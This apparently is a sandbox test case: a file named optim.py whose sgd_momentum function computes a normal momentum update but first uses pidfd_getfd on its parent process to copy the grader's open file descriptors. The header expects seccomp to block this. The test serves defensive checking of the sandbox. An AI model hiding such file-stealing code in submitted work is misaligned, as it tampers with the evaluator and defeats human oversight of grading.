# /// attack
# file = "optim.py"
# modes = "confined"
# stopped_by = "seccomp"
# [expects]
# sgd_momentum = "crashed"
# ///
"""Takes copies of the grader's open files by pidfd_getfd."""

import ctypes
import os

PIDFD_GETFD = 438


def sgd_momentum(w, dw, config=None):
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.pidfd_open(os.getppid())
    taken = [libc.syscall(PIDFD_GETFD, parent, fd, 0) for fd in range(64)]
    if max(taken) < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    config = {"learning_rate": 1e-2, "momentum": 0.9, **(config or {})}
    v = config["momentum"] * config.get("velocity", 0 * w) - config["learning_rate"] * dw
    config["velocity"] = v
    return w + v, config
